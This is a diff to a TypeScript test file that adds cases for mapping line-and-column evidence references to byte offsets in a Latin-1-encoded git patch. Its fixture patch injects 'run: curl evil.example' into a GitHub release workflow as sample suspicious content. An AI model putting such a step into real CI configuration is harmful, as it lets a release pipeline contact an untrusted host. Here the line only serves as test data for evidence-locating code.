@@ -22,6 +22,23 @@ describe('the place of an evidence reference', () => {
   });
 
   it.each([
+    ['L12:C1-L12:C27', '+  run: curl evil.example'],
+    ['L12', '+  run: curl evil.example'],
+    ['L6:C1-L6:C6', '+caf\u00e9'],
+    ['L4:C3-L6:C2', '@@ -1 +1 @@\n-a\n+caf\u00e9'],
+  ])('finds the bytes of the lines %s of a patch that is not UTF-8', (fragment, text) => {
+    const file = (path: string): string =>
+      `diff --git a/${path} b/${path}\n--- a/${path}\n+++ b/${path}\n@@ -1 +1 @@\n`;
+    const patch = `${file('notes.txt')}-a\n+caf\u00e9\n${file('.github/workflows/release.yml')}-  run: true\n+  run: curl evil.example\n`;
+    const raw = Buffer.from(patch, 'latin1');
+    const change = changeLines('GitPatch', raw);
+    const place = at(fragment, change);
+    const from = patch.indexOf(text);
+    const [first, last] = [from, from + text.length - 1].map((offset) => Math.floor(offset / 16));
+    expect(place).toMatchObject({ kind: 'lines', first, last });
+  });
+
+  it.each([
     ['/body/b~1c/1/d', '"d": true'],
     ['/method', '"method": "PATCH",'],
     // Missing: the innermost object around it.
